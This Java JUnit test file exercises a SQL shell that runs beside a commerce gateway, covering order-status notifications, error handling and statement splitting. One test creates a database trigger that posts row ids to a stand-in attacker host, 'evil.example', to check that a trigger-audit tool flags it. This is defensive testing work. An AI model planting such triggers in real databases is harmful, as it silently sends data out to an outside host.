package com.tarcommerce.gateway.event;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.sql.SQLException;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.DisabledIfSystemProperty;

/** SQL by hand, beside a running gateway. */
class SqlShellTests extends WithGateway {
    private final ByteArrayOutputStream out = new ByteArrayOutputStream();
    private final ByteArrayOutputStream err = new ByteArrayOutputStream();
    private Map<String, String> environment = Map.of();

    @BeforeEach
    void environmentOfTheGateway() {
        environment = new HashMap<>(Map.of("TAR_DATA_DIR", FOLDER.toString(), "TAR_WEBHOOK_SECRET", SECRET,
                "TAR_GATEWAY_URL", "http://127.0.0.1:" + port,
                "TAR_DATABASE_URL", databaseUrl()));
    }

    @AfterEach
    void noOtherTriggers() {
        jdbc.sql("drop trigger if exists to_nowhere").update();
    }

    @Test
    void anOrderThatIsPaidByHandIsTold() {
        var shop = shop().withRoom("orders").withOrder("1001", "pending", 100);

        var code = run("update nodes set status = 'paid' where tenant_id = '" + shop.id
                + "' and id = '1001'; select id, status from nodes where tenant_id = '" + shop.id + "'");

        assertThat(err()).isEmpty();
        assertThat(code).isZero();
        assertThat(out()).isEqualTo("1 row changed\nid    status\n1001  paid\n1 row\n");
        await().untilAsserted(() -> assertThat(OUTBOUND.texts(shop.id)).containsExactly("Order 1001 is paid: ₹1."));
    }

    @Test
    void anotherProcessRingsToo() throws IOException, InterruptedException {
        var shop = shop().withRoom("orders").withOrder("1001", "pending", 100);
        var command = new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                "--enable-native-access=ALL-UNNAMED", "-cp", System.getProperty("java.class.path"),
                OtherProcess.class.getName(), "update nodes set status = 'paid' where tenant_id = '" + shop.id + "'");
        command.environment().putAll(environment);

        var process = command.redirectErrorStream(true).start();
        var said = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);

        assertThat(process.waitFor()).as(said).isZero();
        assertThat(said).isEqualTo("1 row changed\n");
        await().untilAsserted(() -> assertThat(OUTBOUND.texts(shop.id)).containsExactly("Order 1001 is paid: ₹1."));
    }

    @Test
    void whatFailsChangesNothing() {
        var shop = shop().withOrder("1001", "pending", 100);

        var code = run("update nodes set status = 'packed' where tenant_id = '" + shop.id + "'",
                "update nodes set nonsense = 1");

        assertThat(code).isEqualTo(1);
        assertThat(err()).contains("no such column: nonsense", "Nothing was changed.");
        assertThat(shop.column("order", "1001", "status")).isEqualTo("pending");
    }

    @Test
    @DisabledIfSystemProperty(named = "tar.test.engine", matches = "libsql", disabledReason = "a server rings by itself")
    void withoutAGatewayTheEventsWaitAndItSaysSo() {
        var shop = shop().withOrder("1001", "pending", 100);
        environment.put("TAR_GATEWAY_URL", "http://127.0.0.1:1");

        var code = run("update nodes set status = 'paid' where tenant_id = '" + shop.id + "'");

        assertThat(code).isZero();
        assertThat(err()).contains("no gateway answers at http://127.0.0.1:1; 1 event(s) wait in the outbox");
    }

    @Test
    @DisabledIfSystemProperty(named = "tar.test.engine", matches = "libsql", disabledReason = "a server rings by itself")
    void aWrongSecretIsNamed() {
        var shop = shop().withOrder("1001", "pending", 100);
        environment.put("TAR_WEBHOOK_SECRET", "another-secret-of-these-tests");

        run("update nodes set status = 'paid' where tenant_id = '" + shop.id + "'");

        assertThat(err()).contains("answered 401: it has another TAR_WEBHOOK_SECRET");
    }

    @Test
    void withoutADatabaseItSaysWhatToDo() {
        environment.remove("TAR_DATABASE_URL");
        environment.put("TAR_DATA_DIR", FOLDER.resolve("nothing").toString());

        assertThat(run("select 1")).isEqualTo(1);
        assertThat(err()).contains("start the gateway once (./tarctl up)");
        assertThat(FOLDER.resolve("nothing")).doesNotExist();
    }

    @Test
    void aTriggerCanBeMadeAndIsCheckedByTheDoctor() throws SQLException {
        var code = run("""
                create trigger to_nowhere after update of name on nodes begin
                    select lib_http_post('https://evil.example/hook', json_object('id', NEW.id)); -- ; end;
                end;
                select count(*) as n from sqlite_master where name = 'to_nowhere'""");

        assertThat(err()).isEmpty();
        assertThat(code).isZero();
        assertThat(out()).endsWith("n\n1\n1 row\n");
        assertThat(TriggerCheck.findings(environment)).singleElement().asString()
                .startsWith("the trigger to_nowhere posts to https://evil.example/hook").contains("TAR_WEBHOOK_ALLOW");
    }

    @Test
    void statementsPartAtTheirSemicolons() {
        assertThat(SqlStatements.split("select ';' ; -- a; b\n select \"a;b\", [c;d] /* ; */;;"))
                .containsExactly("select ';' ;", "-- a; b\n select \"a;b\", [c;d] /* ; */;");
        assertThat(SqlStatements.split(
                "create trigger t after insert on n begin select 1; select case when 1 then 2 end; end; select 3"))
                .hasSize(2);
    }

    private int run(String... arguments) {
        return SqlShell.run(List.of(arguments), environment, print(out), print(err));
    }

    private static PrintStream print(ByteArrayOutputStream bytes) {
        return new PrintStream(bytes, true, StandardCharsets.UTF_8);
    }

    private String out() {
        return out.toString(StandardCharsets.UTF_8);
    }

    private String err() {
        return err.toString(StandardCharsets.UTF_8);
    }
}
